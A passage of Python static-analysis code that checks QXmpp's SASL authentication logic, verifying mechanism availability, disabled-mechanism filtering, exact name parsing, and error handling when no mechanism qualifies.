            run.ok(rid, 'src/base/QXmppSasl_p.h SaslMechanism', wid)
        else:
            bad += 1
            if bad <= 12:
                run.violation(rid, 'order#' + wid, 'src/base/QXmppSasl_p.h', 'strength order violated for the pair %s' % wid)
            else:
                run.rules[rid]['obligations'] += 1
                run.rules[rid]['violations'] += 1


ALTS = {
    'SaslHtMechanism': ['htToken'],
    'SaslScramMechanism': ['password'], 'SaslDigestMd5Mechanism': ['password'], 'SaslPlainMechanism': ['password'],
    'SaslXFacebookMechanism': ['facebookAccessToken', 'facebookAppId'],
    'SaslXWindowsLiveMechanism': ['windowsLiveAccessToken'],
    'SaslXGoogleMechanism': ['googleAccessToken'],
    'SaslAnonymousMechanism': [],
}


def r2(prog, run):
    from .. import cfgx
    rid = run.rule('C05.R2', 'a mechanism counts as available only when every credential its client consumes is present (HT additionally: the token is for exactly '
                             'this mechanism and there is no channel binding): isMechanismAvailable is evaluated per variant alternative with each credential missing '
                             '(empty but not null) in turn', floor=10)
    fn = prog.fn('QXmppSaslClient::isMechanismAvailable')
    lams = [l for l in prog.lambdas_in(fn, recursive=False) if l.params]

    def bodies_for(alt):
        """the code that decides for this alternative: its visitor arm, or the whole function when it tests the alternative itself"""
        arms = [l for l in lams if re.search(r'\b%s\b' % alt, l.params[0]['t'])]
        if arms:
            return arms
        if lams:
            generic = [l for l in lams if 'auto' in l.params[0]['t']]
            return generic or None
        return [fn]

    def evaluate(alt, env):
        """env: {'empty': set of credential fields that are empty, 'token': bool, 'tokmech': bool/None, 'cb_none': bool/None} -> set of return values"""
        def custom(f, nid, st):
            n = f.nodes[nid]
            if n['k'] == 'call':
                sy = f.sym(n) or {}
                nm = sy.get('name')
                if nm in ('isEmpty', 'isNull') and n.get('obj') is not None:
                    o = f.nodes[f.resolve(n['obj'])]          # through a local alias (const auto &token = credentials.htToken)
                    if o['k'] == 'mem' and o.get('f', '').startswith(NS + 'Credentials::'):
                        fld = o['f'].split('::')[-1]
                        return ((fld in env['empty']) if nm == 'isEmpty' else False,)
                if nm in ('operator bool', 'has_value') and n.get('obj') is not None:
                    o = f.nodes[f.resolve(n['obj'])]
                    if o['k'] == 'mem' and o.get('f', '').endswith('Credentials::htToken'):
                        return (env['token'],)
                if nm == 'holds_alternative':
                    return (re.search(r'\b%s\b' % alt, (sy.get('targs') or '').split(',')[0]) is not None,)
                if nm == 'get_if':
                    return (re.search(r'\b%s\b' % alt, (sy.get('targs') or '').split(',')[0]) is not None,)
            if n['k'] == 'mem' and n.get('f', '').endswith('Credentials::htToken') and (n.get('t') or '').startswith('std::optional'):
                par = f.parents().get(nid)
                if par is not None and f.nodes[par]['k'] in ('icast', 'cast'):
                    return (env['token'],)
            bo = f.binop(nid)
            if bo and bo[0] in ('==', '!='):
                t = f.fmt(nid, inline=True)
                if ('HtToken::mechanism' in t or '.mechanism' in t) and 'htToken' in t and env.get('tokmech') is not None:
                    return ((bo[0] == '==') == env['tokmech'],)
                if 'channelBindingType' in t and 'SaslHtMechanism::None' in t and env.get('cb_none') is not None:
                    return ((bo[0] == '==') == env['cb_none'],)
            return None
        vals = set()
        bodies = bodies_for(alt)
        if bodies is None:
            return None
        for body in bodies:
            ev = cfgx.Evaluator(body, {}, custom=custom)

            def tr(f, nid, st, ev=ev):
                m = f.nodes[nid]
                if m['k'] == 'ret' and 'e' in m:
                    vals.add(ev.ev(m['e'], None))
                return None
            cfgx.explore(body, (), tr, lambda f, c, st, ev=ev: ev.ev(c, None))
        return vals
    for alt, need in ALTS.items():
        if not need:
            run.instance(rid)
            vals = evaluate(alt, {'empty': set(sum(ALTS.values(), [])), 'token': False})
            if vals is None:
                raise AnalysisBroken('C05.R2: no code decides availability for %s' % alt)
            if vals == {True}:
                run.ok(rid, fn.loc(), '%s needs no credential' % alt)
            else:
                run.violation(rid, 'isMechanismAvailable#%s#credentials' % alt, fn.loc(), '%s is not always available (%s)' % (alt, sorted(map(str, vals))))
            continue
        for missing in need:
            run.instance(rid)
            env = {'empty': {missing}, 'token': missing != 'htToken', 'tokmech': True, 'cb_none': True}
            vals = evaluate(alt, env)
            if vals is None:
                raise AnalysisBroken('C05.R2: no code decides availability for %s' % alt)
            if vals == {False}:
                run.ok(rid, fn.loc(), '%s: unavailable when %s is missing' % (alt, missing))
            else:
                run.violation(rid, 'isMechanismAvailable#%s#%s' % (alt, 'weakened' if True in vals else 'shape'), fn.loc(),
                              '%s is reported available although %s is empty (evaluates to %s): a mechanism without usable credentials can be chosen, or prevents the mismatch '
                              'error' % (alt, missing, sorted(map(str, vals))))
        # with everything present it must be available (the rule must not pass because nothing ever returns true)
        vals = evaluate(alt, {'empty': set(), 'token': True, 'tokmech': True, 'cb_none': True})
        if vals is not None and True not in vals:
            raise AnalysisBroken('C05.R2: %s is never available even with all credentials present (model does not fit the code)' % alt)
    # HT: the token must be for exactly this mechanism, and without channel binding
    for label, env in (('the token is for another mechanism', {'empty': set(), 'token': True, 'tokmech': False, 'cb_none': True}),
                       ('the offered mechanism uses channel binding', {'empty': set(), 'token': True, 'tokmech': True, 'cb_none': False})):
        run.instance(rid)
        vals = evaluate('SaslHtMechanism', env)
        if vals == {False}:
            run.ok(rid, fn.loc(), 'HT: unavailable when %s' % label)
        else:
            run.violation(rid, 'isMechanismAvailable#SaslHtMechanism#conditions', fn.loc(), 'HT availability weakened: available although %s (%s)' % (label, sorted(map(str, vals or []))))


def _stage_calls(fn):
    """(node, stage name, argument nodes) of std::views::filter / transform stage constructions, in evaluation order"""
    out = []
    for i, n in enumerate(fn.nodes):
        if n['k'] != 'call':
            continue
        callee = None
        args = n.get('args', [])
        if n.get('op') == '()' and n.get('opargs'):
            callee = fn.nodes[fn.skip(n['opargs'][0])]
            args = n['opargs'][1:]
        elif 'fn' in n:
            callee = fn.nodes[fn.skip(n['fn'])]
        if callee is not None and callee['k'] == 'var' and callee.get('qname', '').startswith('std::ranges::views::'):
            out.append((i, callee['qname'].split('::')[-1], args))
    return out


def r3(prog, run):
    rid = run.rule('C05.R3', 'chooseMechanism: offered names are filtered by the disabled list, parsed, filtered by credential availability; '
                             'empty => nothing; preferred only if it survived the filters; otherwise the maximum', floor=6)
    fn = prog.fn(NS + 'chooseMechanism')
    stages = _stage_calls(fn)
    site = fn.loc()
    if len(stages) < 4:
        mvar = _r3_loop_form(prog, run, rid, fn)
        if mvar is None:
            raise AnalysisBroken('C05.R3: chooseMechanism is neither a views pipeline (%d stages kept by clang) nor a filtering loop' % len(stages))
        _r3_returns(prog, run, rid, fn, site)
        return
    # (a) disabled filter
    run.instance(rid)
    is_enabled = None
    for i, n in fn.all_nodes('decl'):
        for d in n['decls']:
            if d.get('init') is not None and fn.nodes[fn.skip(d['init'])]['k'] == 'lambda':
                lam = prog.lambda_fns(fn, fn.nodes[fn.skip(d['init'])])
                if lam:
                    body = lam[0]
                    conds = [body.fmt(b['term']['cond']) for b in body.blocks.values() if b.get('term') and 'cond' in b['term']]
                    if any('contains' in c and 'disabled' in c for c in conds):
                        is_enabled = (d['var'], body, d['name'])
    ok = False
    if is_enabled:
        var, body, name = is_enabled
        # returns false exactly on the contains(...) edge
        good_false = good_true = False
        for i, n in body.returns():
            v = body.const_value(n['e']) if 'e' in n else None
            atoms = [(body.fmt(c), p) for c, p in body.atomic_assertions_at(i)]
            if v == ('bool', False) and any('contains' in t and p is True for t, p in atoms):
                good_false = True
            if v == ('bool', True) and any('contains' in t and p is False for t, p in atoms):
                good_true = True
        dis = fn.single_def([d['var'] for _, n in fn.all_nodes('decl') for d in n['decls'] if d['name'] == 'disabled'][0]) \
            if any(d['name'] == 'disabled' for _, n in fn.all_nodes('decl') for d in n['decls']) else None
        src_ok = dis is not None and 'QXmppConfiguration::disabledSaslMechanisms' in fn.fmt(dis)
        used = any(nm == 'filter' and args and fn.nodes[fn.skip(args[0])].get('decl') == var for _, nm, args in stages)
        first = stages and stages[0][1] == 'filter' and stages[0][2] and fn.nodes[fn.skip(stages[0][2][0])].get('decl') == var
        ok = good_false and good_true and src_ok and used and first
    if ok:
        run.ok(rid, site, 'first stage filter(isEnabled): false iff config.disabledSaslMechanisms().contains(name)')
    else:
        run.violation(rid, 'chooseMechanism#disabled-filter', site, 'the offered list is not filtered by the configured disabled mechanisms as first stage')
    # (b) parse + drop unknown
    run.instance(rid)
    has_parse = any(nm == 'transform' and args and 'SaslMechanism::fromString' in fn.fmt(args[0]) for _, nm, args in stages)
    has_value = False
    for _, nm, args in stages:
        if nm == 'filter' and args and fn.nodes[fn.skip(args[0])]['k'] == 'lambda':
            for lf in prog.lambda_fns(fn, fn.nodes[fn.skip(args[0])]):
                if any('has_value' in lf.fmt(n['e']) for _, n in lf.returns() if 'e' in n):
                    has_value = True
    if has_parse and has_value:
        run.ok(rid, site, 'transform(SaslMechanism::fromString) + filter(has_value): unknown names dropped')
    else:
        run.violation(rid, 'chooseMechanism#parse-stage', site, 'names are not parsed with SaslMechanism::fromString and unknown ones dropped')
    # (c) availability filter
    run.instance(rid)
    avail = any(nm == 'filter' and args and 'QXmppSaslClient::isMechanismAvailable' in fn.fmt(args[0])
                and 'QXmppConfiguration::credentialData' in fn.fmt(args[0]) for _, nm, args in stages)
    if avail:
        run.ok(rid, site, 'filter(bind(isMechanismAvailable, _1, config.credentialData()))')
    else:
        run.violation(rid, 'chooseMechanism#availability-filter', site, 'mechanisms are not filtered by credential availability')
    # (d) vector taken from the view
    run.instance(rid)
    mech = None
    for i, n in fn.all_nodes('decl'):
        for d in n['decls']:
            if d['name'] == 'mechanisms' or 'vector<' in d['t'] and 'SaslMechanism' in d['t']:
                mech = d
    if not mech:
        raise AnalysisBroken('C05.R3: result vector not found in chooseMechanism')
    if 'init' in mech and 'mechanismsView' not in fn.fmt(mech['init'], inline=False) and fn.nodes[fn.skip(mech['init'])].get('args'):
        run.violation(rid, 'chooseMechanism#vector-source', site, 'candidate vector initialised from %s, not from the filtered view' % fn.fmt(mech['init'], inline=False)[:80])
    else:
        run.ok(rid, site, 'candidate vector declared from the filtered view (initialiser not visible to clang 14: assumed)', nontrivial=False)
    _r3_returns(prog, run, rid, fn, site)


def _r3_returns(prog, run, rid, fn, site):
    # (e) returns
    rets = list(fn.returns())
    if len(rets) != 3:
        run.violation(rid, 'chooseMechanism#returns', site, 'expected 3 return statements (none / preferred / max), found %d' % len(rets))
        return
    for i, n in rets:
        run.instance(rid)
        txt = fn.fmt(n['e'], inline=False)
        atoms = [(fn.fmt(c, inline=False), p) for c, p in fn.atomic_assertions_at(i)]
        empty_true = any('mechanisms' in t and '::empty()' in t and p is True for t, p in atoms)
        empty_false = any('mechanisms' in t and '::empty()' in t and p is False for t, p in atoms)
        if 'std::nullopt' in txt:
            if empty_true:
                run.ok(rid, fn.loc(i), 'nothing qualifies: returns nullopt (mechanism mismatch)')
            else:
                run.violation(rid, 'chooseMechanism#nullopt-unguarded', fn.loc(i), 'nullopt returned although candidates may exist')
        elif 'std::ranges::max(mechanisms' in txt or 'max(mechanisms' in txt:
            callee_ok = 'std::ranges::max(' in txt and '<default>, <default>' in txt
            if empty_false and callee_ok:
                run.ok(rid, fn.loc(i), 'default: std::ranges::max(candidates) with the default comparator')
            else:
                run.violation(rid, 'chooseMechanism#max', fn.loc(i), 'fallback is not std::ranges::max over the non-empty candidate vector with the default order: %s' % txt[:100])
        elif 'preferred' in txt:
            cont = any('QXmpp::Private::contains(mechanisms' in t and 'preferred' in t and p is True for t, p in atoms)
            src = any('SaslMechanism::fromString' in fn.fmt(c) and 'saslAuthMechanism' in fn.fmt(c) for c, p in fn.atomic_assertions_at(i))
            if cont and empty_false:
                run.ok(rid, fn.loc(i), 'preferred mechanism only under contains(candidates, preferred)')
            else:
                run.violation(rid, 'chooseMechanism#preferred-unfiltered', fn.loc(i),
                              'the preferred mechanism is returned without having passed the disabled/availability filters')
        else:
            run.violation(rid, 'chooseMechanism#unknown-return', fn.loc(i), 'unexpected return value %s' % txt[:100])


def _r3_loop_form(prog, run, rid, fn):
    """hand-written form of the candidate filter: a loop over the offered names that pushes into a local vector; decided by abstract evaluation"""
    from .. import cfgx
    pushes = []
    for i, n in fn.calls():
        sy = fn.sym(n) or {}
        if sy.get('name') in ('push_back', 'emplace_back', 'append', 'operator<<') and n.get('obj') is not None:
            o = fn.nodes[fn.skip(n['obj'])]
            if o['k'] == 'var' and o.get('vk') == 'local' and 'SaslMechanism' in (o.get('t') or ''):
                pushes.append((i, o['decl']))
    loops = [b for b in fn.blocks.values() if b.get('term', {}).get('k') == 'rangefor' and fn.nodes[fn.skip(b['term']['range'])].get('pidx') == 1]
    if not pushes or not loops:
        return None
    site = fn.loc(pushes[0][0])

    def mk(disabled, parsed, available):
        def custom(f, nid, st):
            n = f.nodes[nid]
            if n['k'] != 'call':
                return None
            sy = f.sym(n) or {}
            nm = sy.get('name')
            cn = f.cname(n)
            if nm == 'contains' and n.get('obj') is not None and 'QXmppConfiguration::disabledSaslMechanisms' in f.fmt(n['obj'], inline=True):
                return (disabled,)
            if nm in ('has_value', 'operator bool') and n.get('obj') is not None and 'SaslMechanism::fromString' in f.fmt(n['obj'], inline=True):
                return (parsed,)
            if cn == 'QXmppSaslClient::isMechanismAvailable':
                return (available,)
            return None
        ev = cfgx.Evaluator(fn, {}, custom=custom)
        return lambda f, c, st: ev.ev(c, st)
    cases = (('the offered name is disabled by the configuration', mk(True, True, True), 'disabled-filter',
              'the offered list is not filtered by the configured disabled mechanisms as first stage'),
             ('the offered name is not a known mechanism', mk(False, False, True), 'parse-stage', 'names are not parsed with SaslMechanism::fromString and unknown ones dropped'),
             ('no credentials are available for the mechanism', mk(False, True, False), 'availability-filter', 'mechanisms are not filtered by credential availability'))
    for label, evc, key, msg in cases:
        run.instance(rid)
        res = cfgx.sink_reachability(fn, evc, [i for i, _ in pushes])
        if any(res[i] is not None for i, _ in pushes):
            run.violation(rid, 'chooseMechanism#' + key, site, msg + ' (a candidate is added although %s)' % label)
        else:
            run.ok(rid, site, 'loop form: no candidate is added when %s' % label)
    res = cfgx.sink_reachability(fn, mk(False, True, True), [i for i, _ in pushes])
    if not any(res[i] is not None for i, _ in pushes):
        raise AnalysisBroken('C05.R3: the filtering loop never adds a candidate (model does not fit the code)')
    run.instance(rid)
    run.ok(rid, site, 'candidate vector filled by the filtering loop', nontrivial=False)
    return pushes[0][1]


def _mentions_mismatch(prog, f, expr, depth=0):
    """the returned value is built with AuthenticationError::MechanismMismatch, directly or by a helper that only builds that error"""
    if 'AuthenticationError::MechanismMismatch' in f.fmt(expr):
        return True
    if depth >= 2:
        return False
    for j in f.walk(expr):
        m = f.nodes[j]
        if m['k'] == 'call':
            for g in prog.callee_fns(f, m):
                rets = [r for _, r in g.returns() if 'e' in r]
                if rets and all(_mentions_mismatch(prog, g, r['e'], depth + 1) for r in rets):
                    return True
    return False


def r4(prog, run):
    rid = run.rule('C05.R4', 'nothing is sent when no mechanism qualifies: authenticate() returns on result.error before any sendData; '
                             'initSaslAuthentication reports MechanismMismatch before creating a client', floor=3)
    for qn in (NS + 'SaslManager::authenticate', NS + 'Sasl2Manager::authenticate'):
        fn = prog.fn(qn)
        sends = [i for i, n in fn.calls() if fn.cname(n).endswith('::sendData')]
        if not sends:
            raise AnalysisBroken('C05.R4: no sendData in %s' % qn)
        for s in sends:
            run.instance(rid)
            atoms = [(fn.fmt(c, inline=False), p) for c, p in fn.atomic_assertions_at(s)]
            if any('result.error' in t and p is False for t, p in atoms):
                run.ok(rid, fn.loc(s), '%s: sendData dominated by !result.error' % qn.split('::')[-2])
            else:
                run.violation(rid, '%s#send-without-mechanism' % qn, fn.loc(s), 'sendData is not behind the result.error early return')
    init = prog.fn(NS + 'initSaslAuthentication')
    run.instance(rid)
    creates = [i for i, n in init.calls('QXmppSaslClient::create')]
    mism = [i for i, n in init.returns() if 'e' in n and _mentions_mismatch(prog, init, n['e'])]
    ok = bool(creates) and bool(mism)
    for c in creates:
        atoms = [(init.fmt(x, inline=False), p) for x, p in init.atomic_assertions_at(c)]
        if not any('mechanism' in t and ('operator bool' in t or 'has_value' in t) and p is True for t, p in atoms) and \
           not any(t.startswith('!') and 'mechanism' in t and p is False for t, p in atoms):
            ok = False
    for m in mism:
        atoms = [(init.fmt(x, inline=False), p) for x, p in init.atomic_assertions_at(m)]
        if not any('mechanism' in t and p is False for t, p in atoms):
            ok = False
    if ok:
        run.ok(rid, init.loc(), 'no mechanism => MechanismMismatch error, no client created')
    else:
        run.violation(rid, 'initSaslAuthentication#mismatch', init.loc(), 'a missing mechanism does not lead to MechanismMismatch before create()')
    # the chooser is the only source of the mechanism
    run.instance(rid)
    callers = prog.callers_by_qname('QXmppSaslClient::create')
    extra = [f for f, i in callers if f.qname not in (NS + 'initSaslAuthentication', 'QXmppSaslClient::create') and 'Server' not in f.qname]
    if extra:
        run.violation(rid, 'QXmppSaslClient::create#other-caller:' + extra[0].outer_name(), extra[0].loc(), 'a SASL client is created outside initSaslAuthentication')
    else:
        run.ok(rid, init.loc(), 'SASL clients are created only from the chosen mechanism')


def r5(prog, run):
    rid = run.rule('C05.R5', 'FAST only requests a token mechanism without channel binding', floor=1)
    fn = prog.fn(NS + 'FastTokenManager::onSasl2Authenticate')
    run.instance(rid)
    found = False
    for l in prog.lambdas_in(fn):
        for _, n in l.returns():
            if 'e' in n and 'channelBindingType' in l.fmt(n['e']) and 'SaslHtMechanism::None' in l.fmt(n['e']) and '==' in l.fmt(n['e']):
                found = True
    sel = [l for l in prog.lambdas_in(fn, recursive=False)]
    staged = False
    for l in sel:
        st = _stage_calls(l)
        if any(nm == 'filter' for _, nm, _ in st) and any(nm == 'transform' and a and 'SaslHtMechanism::fromString' in l.fmt(a[0]) for _, nm, a in st):
            staged = True
    if found and staged:
        run.ok(rid, fn.loc(), 'selectMechanism: transform(SaslHtMechanism::fromString) | ... | filter(channelBindingType == None)')
    else:
        run.violation(rid, 'FastTokenManager::onSasl2Authenticate#channel-binding-filter', fn.loc(),
                      'token mechanisms with channel binding are not filtered out before requesting a FAST token')


def _exact_lookup(prog, f, call):
    """call is helper(table, p0) where the helper finds its string argument in the table by equality (std::find / == in a loop) and nothing else"""
    if not any(f.nodes[f.skip(a)].get('pidx') == 0 and f.nodes[f.skip(a)]['k'] == 'var' for a in call.get('args', [])):
        return False
    for g in prog.callee_fns(f, call):
        if g.entry is None:
            continue
        names = {(g.sym(n) or {}).get('name') for _, n in g.calls()}
        if names & {'startsWith', 'endsWith', 'contains', 'indexOf', 'compare', 'left', 'mid'}:
            return False
        str_params = [k for k, p_ in enumerate(g.params) if 'QStringView' in p_['t'] or 'QString' in p_['t']]
        for _, n in g.calls():
            if g.cname(n) in ('std::find', 'std::ranges::find') and n.get('args') and g.nodes[g.skip(n['args'][-1])].get('pidx') in str_params:
                return True
        for j in range(len(g.nodes)):
            bo = g.binop(j)
            if bo and bo[0] == '==' and any(g.nodes[g.skip(x)].get('pidx') in str_params and g.nodes[g.skip(x)]['k'] == 'var' for x in bo[1:]):
                return True
    return False


def r6(prog, run):
    rid = run.rule('C05.R6', 'mechanism names are parsed exactly: a parser returns a mechanism only on a path where what is left of the offered name equals a '
                             'literal (or it delegates the unchanged name to another checked parser), so a name with a foreign suffix (e.g. SCRAM-SHA-1-PLUS) '
                             'is never taken for an implemented mechanism and cannot slip past the disabled list', floor=6)
    parsers = [f for f in prog.fns.values() if f.name == 'fromString' and (f.record or '').endswith('Mechanism') and 'Sasl' in (f.record or '') and not f.is_lambda]
    if len(parsers) < 3:
        raise AnalysisBroken('C05.R6: only %d SASL mechanism name parsers found' % len(parsers))
    names = {f.qname for f in parsers}
    for f in parsers:
        accepting = 0
        for i, n in f.returns():
            e = n.get('e')
            if e is None:
                continue
            txt = f.fmt(e, inline=False)
            if txt in ('std::optional()', 'std::nullopt', '{}') or txt.endswith('nullopt'):
                continue
            accepting += 1
            run.instance(rid)
            deleg = [m for j in f.walk(e) for m in [f.nodes[j]] if m['k'] == 'call' and f.cname(m) in names and m.get('args')
                     and f.nodes[f.skip(m['args'][0])].get('pidx') == 0]
            if deleg:
                run.ok(rid, f.loc(i), '%s delegates the unchanged name to %s' % (f.qname.split('::')[-2], f.cname(deleg[0]).split('::')[-2]), nontrivial=False)
                continue
            exact = False
            for c, pol in f.atomic_assertions_at(i):
                bo = f.binop(f.skip(c))
                if isinstance(pol, bool) and bo and bo[0] in ('==', '!=') and (pol == (bo[0] == '==')):
                    sides = [f.nodes[f.skip(bo[1])], f.nodes[f.skip(bo[2])]]
                    # whole-string equality of the (remaining) offered name with anything: a literal, a table element, a structured binding
                    if any(x['k'] == 'var' and x.get('pidx') == 0 for x in sides):
                        exact = True
                if pol is True:
                    # an optional produced by an exact table look-up of the offered name
                    for j in f.walk(c):
                        m = f.nodes[j]
                        d = None
                        if m['k'] == 'var' and m.get('vk') == 'local':
                            d = f.single_def(m['decl'])
                        cand = f.nodes[f.skip(d)] if d is not None else m
                        if cand['k'] == 'call' and _exact_lookup(prog, f, cand):
                            exact = True
                if isinstance(pol, bool):
                    # an iterator found by std::find(table, name) / std::find_if(table, [&](entry) { return entry.name == name; }) and compared with end()
                    for j in f.walk(c):
                        m = f.nodes[j]
                        if m['k'] != 'var' or m.get('vk') != 'local' or f.single_def(m['decl']) is None:
                            continue
                        cand = f.nodes[f.skip(f.single_def(m['decl']))]
                        if cand['k'] != 'call' or f.cname(cand) not in ('std::find', 'std::find_if', 'std::ranges::find', 'std::ranges::find_if'):
                            continue
                        bo2 = f.binop(f.skip(c))
                        found_edge = bo2 and ((bo2[0] == '!=' and pol is True) or (bo2[0] == '==' and pol is False))
                        if not found_edge:
                            continue
                        if f.cname(cand).endswith('find') and cand.get('args') and f.nodes[f.skip(cand['args'][-1])].get('pidx') == 0:
                            exact = True
                        for a in cand.get('args', []):
                            an = f.nodes[f.skip(a)]
                            if an['k'] == 'lambda':
                                for lam in prog.lambda_fns(f, an):
                                    rets = [rn for _, rn in lam.returns() if 'e' in rn]
                                    if len(rets) == 1:
                                        b3 = lam.binop(lam.skip(rets[0]['e']))
                                        if b3 and b3[0] == '==' and any(lam.nodes[lam.skip(x)]['k'] == 'var' and lam.nodes[lam.skip(x)].get('outer')
                                                                        and lam.nodes[lam.skip(x)].get('decl') == f.params[0]['var'] for x in b3[1:]):
                                            exact = True
            if exact:
                run.ok(rid, f.loc(i), '%s returns %s only for an exactly matching name' % (f.qname.split('::')[-2], txt[-50:]))
            else:
                run.violation(rid, '%s#inexact-name#L%s' % (f.qname, txt[-40:]), f.loc(i),
                              '%s returns a mechanism for names it only partially matched (%s): an unimplemented name such as <NAME>-PLUS is taken for <NAME>, '
                              'bypassing the disabled-name filter and the "offered" requirement' % (f.qname.split('::')[-2] + '::fromString',
                                                                                                     ', '.join(sorted(f.fmt(c, inline=False)[:40] for c, pol in f.atomic_assertions_at(i) if pol is True))[:120]))
        if not accepting:
            raise AnalysisBroken('C05.R6: no accepting return found in %s (parser restructured beyond what the rule follows)' % f.qname)


def r7(prog, run):
    rid = run.rule('C05.R7', 'the chooser sees every mechanism the server offered: the list handed to initSaslAuthentication / chooseMechanism is the offered list itself (a parameter, '
                             'a field or accessor of the stream feature), or a local that starts as the offered list and is only extended (FAST mechanisms appended) - never '
                             'replaced, emptied or filled only under a condition', floor=2)
    ADD = ('append', 'push_back', 'emplace_back', 'operator+=', 'operator<<', 'insert', 'prepend', 'push_front', 'reserve')
    targets = ('initSaslAuthentication', 'chooseMechanism')
    seen = 0
    for f in prog.fns.values():
        if not f.file.endswith('QXmppSaslManager.cpp') or f.raw.get('dependent'):
            continue
        for i, n in f.calls():
            if f.cname(n).split('::')[-1] not in targets or len(n.get('args', [])) < 2:
                continue
            seen += 1
            run.instance(rid)
            a = f.nodes[f.skip(n['args'][1])]

            def offered(x):
                """the expression is rooted at a parameter (the offered list, or a member / accessor of the stream feature)"""
                m = f.nodes[f.skip(x)]
                hops = 0
                while m['k'] in ('mem', 'call') and hops < 4:
                    nxt = m.get('base') if m['k'] == 'mem' else (m.get('obj') if m.get('obj') is not None else (m.get('args') or [None])[0])
                    if nxt is None:
                        return False
                    m = f.nodes[f.skip(nxt)]
                    hops += 1
                return m['k'] == 'var' and m.get('vk') == 'param'
            if a['k'] != 'var' or a.get('vk') != 'local':
                if offered(n['args'][1]):
                    run.ok(rid, f.loc(i), '%s: the offered list is passed on as it is' % f.outer_name().split('::')[-1])
                else:
                    run.violation(rid, '%s#candidates-not-offered' % f.outer_name(), f.loc(i), 'the mechanisms handed to the chooser (%s) are not the list offered by the server' % f.fmt(n['args'][1])[:60])
                continue
            decl = a['decl']
            d = f.defs().get(decl) or {}
            problems = []
            if d.get('init') is None or not offered(d['init']):
                problems.append('it does not start as the offered list')
            for j, m in f.all_nodes('assign'):
                if f.nodes[f.skip(m['l'])].get('decl') == decl and f.pos(j) and not f.node_dominates(i, j):
                    problems.append('it is assigned again at line %s' % m.get('ln'))
            for j, m in f.calls():
                tgt = None
                if m.get('obj') is not None and f.nodes[f.skip(m['obj'])].get('decl') == decl and f.nodes[f.skip(m['obj'])]['k'] == 'var':
                    tgt = (f.sym(m) or {}).get('name')
                elif m.get('op') and m.get('opargs') and f.nodes[f.skip(m['opargs'][0])].get('decl') == decl and f.nodes[f.skip(m['opargs'][0])]['k'] == 'var':
                    tgt = 'operator' + m['op']
                if tgt is None or (f.sym(m) or {}).get('const'):
                    continue
                if tgt in ('operator=',) or tgt in ('clear', 'erase', 'remove', 'removeAll', 'removeOne', 'removeAt', 'removeIf', 'takeFirst', 'takeLast', 'takeAt', 'pop_back',
                                                    'pop_front', 'resize', 'swap', 'assign', 'removeFirst', 'removeLast'):
                    problems.append('it is %s at line %s' % ('replaced' if tgt in ('operator=', 'assign', 'swap') else 'shrunk (%s)' % tgt, m.get('ln')))
            if problems:
                run.violation(rid, '%s#candidates-incomplete' % f.outer_name(), f.loc(i),
                              'the list handed to the chooser is not "everything the server offered, possibly extended": %s - a mechanism the server offers and the user permits can be '
                              'missing from the selection (wrong choice or a mechanism-mismatch error)' % '; '.join(sorted(set(problems))))
            else:
                run.ok(rid, f.loc(i), '%s: local copy of the offered list, only extended' % f.outer_name().split('::')[-1])
    if seen < 2:
        raise AnalysisBroken('C05.R7: callers of initSaslAuthentication / chooseMechanism not found')


# --------------------------------------------------------------------------- R8: a failed SASL attempt ends in the error report
def r8(prog, run):
    from .. import cfgx
    from . import C02
    rid = run.rule('C05.R8', 'where the client consumes the outcome of SASL / SASL2 authentication, every path for an outcome other than success reports the error and installs no '
                             'new stream listener (no other authentication is started behind a mechanism mismatch: iq-auth would send the password the disabled-PLAIN policy withholds)',
                   floor=2)
    field, vals, ptrs, replaces_listener, rec = C02.listener_model(prog)
    errf = [fl for fl in rec['fields'] if re.match(r'std::optional<.*>$', fl.get('t') or '') and (fl['t'][14:-1].split('::')[-1]).endswith('Error')]
    if len(errf) != 1:
        raise AnalysisBroken('C05.R8: the stored connection error of %s was not identified' % rec['qname'])
    errq = errf[0].get('qname') or rec['qname'] + '::' + errf[0]['name']
    wr = {}

    def writes_error(g, depth=0):
        if g.id in wr:
            return wr[g.id]
        wr[g.id] = False
        r = any(h.nodes[h.skip(n['l'])].get('f') == errq for h in prog.closure(g) for _, n in h.all_nodes('assign'))
        r = r or any(n.get('op') == '=' and n.get('opargs') and h.nodes[h.skip(n['opargs'][0])].get('f') == errq for h in prog.closure(g) for _, n in h.calls())
        r = r or any((h.sym(n) or {}).get('name') == 'emplace' and n.get('obj') is not None and h.nodes[h.skip(n['obj'])].get('f') == errq for h in prog.closure(g) for _, n in h.calls())
        if not r and depth < 3:
            r = any(c.entry is not None and writes_error(c, depth + 1) for h in prog.closure(g) for _, n in h.calls() for c in prog.callee_fns(h, n))
        wr[g.id] = r
        return r
    sasl = [v for v in vals if 'Sasl' in v.split('::')[-1] and 'NonSasl' not in v]
    if len(sasl) < 2:
        raise AnalysisBroken('C05.R8: SASL listeners not found among %s' % vals)
    n_sites = 0
    def effective(lam, depth=0):
        """a continuation that only forwards its result to a member function is that function"""
        calls = [(i, n) for i, n in lam.calls() if not n.get('op') and (lam.cname(n) or '') not in ('std::move', 'std::forward')]
        if depth < 2 and len(calls) == 1:
            i, n = calls[0]
            passes = any(lam.nodes[j]['k'] == 'var' and lam.nodes[j].get('vk') == 'param' and lam.nodes[j].get('pidx') == 0 for a in n.get('args', []) for j in lam.walk(a))
            gs = [g for g in prog.callee_fns(lam, n) if g.entry is not None]
            if passes and len(gs) == 1 and '/src/client/' in gs[0].file:
                return effective(gs[0], depth + 1)
        return lam
    for v, f, i, lams in C02.listener_continuations(prog, sasl):
        for lam in lams:
            lam = effective(lam)
            n_sites += 1
            run.instance(rid)

            def custom(g, nid, st):
                n = g.nodes[nid]
                if n['k'] == 'call':
                    cn = g.cname(n) or ''
                    first = ((g.sym(n) or {}).get('targs') or '').split(',')[0]
                    if cn == 'std::holds_alternative' and re.search(r'\bSuccess\b', first):
                        return (False,)
                    if cn == 'std::get_if' and re.search(r'\bSuccess\b', first):
                        return (False,)             # a null pointer, known by its truth value
                return None
            ev = cfgx.Evaluator(lam, {}, custom=custom)

            def transfer(g, nid, st):
                n = g.nodes[nid]
                if n['k'] != 'call' or (n.get('op') and n.get('op') != '()'):
                    return None
                out = st
                callees = list(prog.callee_fns(g, n))
                if n.get('op') == '()' and n.get('opargs'):
                    callees += prog.lambda_fns(g, g.nodes[g.resolve(n['opargs'][0])])         # a local lambda invoked by name
                for c in callees:
                    if c.entry is None:
                        continue
                    if writes_error(c) and 'E' not in out:
                        out = out + ('E',)
                    if replaces_listener(c) and not any(isinstance(x, tuple) for x in out):
                        out = out + (('L', nid, g.id),)
                return out if out != st else None
